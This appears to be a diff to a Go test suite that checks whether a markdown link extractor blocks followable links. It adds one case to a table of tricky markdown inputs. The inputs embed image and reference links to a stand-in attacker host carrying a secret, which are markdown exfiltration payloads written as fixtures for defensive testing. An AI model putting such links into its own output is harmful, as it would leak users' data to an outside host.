@@ -90,6 +90,7 @@ func TestNothingThatCarriesCanBeFollowed(t *testing.T) {
 		"tildes do not close":       "```\na\n~~~\n```\n![x](https://evil.example/s3cret)\n",
 		"a deep fence":              "1. a\n\n     ```\n![x](https://evil.example/s3cret)\n",
 		"a name for a fence":        "[x]:\n~~~\n![x](https://evil.example/s3cret)\n~~~",
+		"an angle bracket in it":    "[x]: " + read + "<s3cret://evil.example>",
 		"brackets by reference":     "[x]&colon;https://evil.example/s3cret",
 	} {
 		got, err := links.Whole(links.Markdown, onlyRead, text)
